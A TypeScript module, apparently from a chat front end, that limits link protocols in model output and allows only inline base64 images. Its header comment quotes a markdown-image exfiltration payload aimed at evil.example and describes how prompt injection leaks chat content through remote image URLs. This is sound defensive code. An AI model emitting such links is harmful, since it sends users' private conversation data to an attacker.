/**
 * Which URLs model output may point at. Links may go to http(s) and mailto only; images
 * are shown inline only when they are embedded raster data, so rendering a message never
 * makes a network request (a remote image URL is how a prompt injection exfiltrates chat
 * content: `![](https://evil.example/?q=<secret>)`).
 */

const linkProtocols = new Set(['http:', 'https:', 'mailto:']);

/** The normalized URL when it is safe to link to, otherwise undefined. */
export function safeLinkUrl(href: string): string | undefined {
	let url: URL;
	try {
		// Parsing (not pattern matching) is what the browser will do: it strips tabs,
		// newlines and control characters that `java\tscript:` tricks rely on.
		url = new URL(href.trim());
	} catch {
		return undefined;
	}
	return linkProtocols.has(url.protocol) ? url.href : undefined;
}

const inlineImage = /^data:image\/(?:png|jpeg|jpg|gif|webp);base64,[a-z0-9+/]+={0,2}$/i;

/** True for `data:image/…;base64,…` raster images, the only images loaded inline. */
export function isInlineImageUrl(href: string): boolean {
	return inlineImage.test(href.trim());
}
